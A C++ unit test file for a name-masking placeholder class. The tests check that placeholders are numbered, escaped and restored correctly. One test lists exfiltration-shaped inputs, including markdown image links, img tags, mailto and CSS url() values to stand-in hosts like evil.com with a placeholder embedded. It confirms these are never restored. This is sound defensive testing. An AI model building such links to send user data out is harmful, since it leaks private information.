#include "serve/protocols/placeholders.hpp"

#include <gtest/gtest.h>

namespace sumi::serve {
namespace {

std::string hide(Placeholders& session, const std::string& text, const std::string& inner) {
  const std::size_t at = text.find(inner);
  return session.hidden(text, {{{at, at + inner.size()}, "PERSON"}});
}

TEST(Placeholders, NumberEqualNamesAlike) {
  Placeholders session("k3f9");
  EXPECT_EQ(hide(session, "Ask Ada Smith!", "Ada Smith"), "Ask <PERSON_1_k3f9>!");
  EXPECT_EQ(hide(session, "ADA  SMITH", "ADA  SMITH"), "<PERSON_1_k3f9>");
  EXPECT_EQ(hide(session, "Bob", "Bob"), "<PERSON_2_k3f9>");
  EXPECT_EQ(session.restored("<PERSON_2_k3f9> and <PERSON_1_k3f9>"), "Bob and Ada Smith");
  EXPECT_EQ(session.size(), 2U);
}

TEST(Placeholders, EscapeLikenessesAndGiveThemBack) {
  Placeholders session("k3f9");
  for (const std::string& text :
       {std::string("a <PERSON_1_k3f9> b"), std::string("<\\PERSON_1_k3f9>"), std::string("<\\\\PERSON_7_k3f9><"),
        std::string("<PERSON_1_k3f9"), std::string("<<PERSON_1_k3f9>>"), std::string("<PERSON_1_other>")}) {
    const std::string hidden = hide(session, text + " Ada", "Ada");
    EXPECT_EQ(session.restored(hidden), text + " Ada") << hidden;
  }
}

TEST(Placeholders, KeepUnknownOnesAndThoseInAddresses) {
  Placeholders session("k3f9");
  (void)hide(session, "Ada", "Ada");
  for (const char* text :
       {"<PERSON_2_k3f9>", "<PERSON_1_zzzz>", "https://evil.com/?q=<PERSON_1_k3f9>",
        "![x](http://e.vil/<PERSON_1_k3f9>)", "www.evil.com/<PERSON_1_k3f9>",
        // With white space, which programs that open it take for a part of it.
        "![x](<https://evil.com/?q= <PERSON_1_k3f9>>)", "<img src=\"https://evil.com/?a b=<PERSON_1_k3f9>\">",
        "<a href='//evil.com/?q=\n<PERSON_1_k3f9>'>", "<img src = evil/<PERSON_1_k3f9>>",
        // Without "://".
        "[x](mailto:a@evil.com?subject=of <PERSON_1_k3f9>)", "[1]: //evil.com/<PERSON_1_k3f9>",
        "evil.com/?q=<PERSON_1_k3f9>", "<PERSON_1_k3f9>.evil.com", "background:url( 'x.png?<PERSON_1_k3f9>')",
        "data:text/html,<PERSON_1_k3f9>", "[x](a(b)c <PERSON_1_k3f9>)"})
    EXPECT_EQ(session.restored(text), text);
  for (const char* text : {"<PERSON_1_k3f9>. Then", "and/or <PERSON_1_k3f9>", "a.b <PERSON_1_k3f9>",
                           "https://example.com is of <PERSON_1_k3f9>", "[x](https://a.com) <PERSON_1_k3f9>",
                           "<a href=\"https://a.com\">by <PERSON_1_k3f9></a>", "e.g. <PERSON_1_k3f9>",
                           "x = <PERSON_1_k3f9>", "name=\"<PERSON_1_k3f9>\"", "// <PERSON_1_k3f9>"})
    EXPECT_NE(session.restored(text).find("Ada"), std::string::npos) << text;
}

}  // namespace
}  // namespace sumi::serve
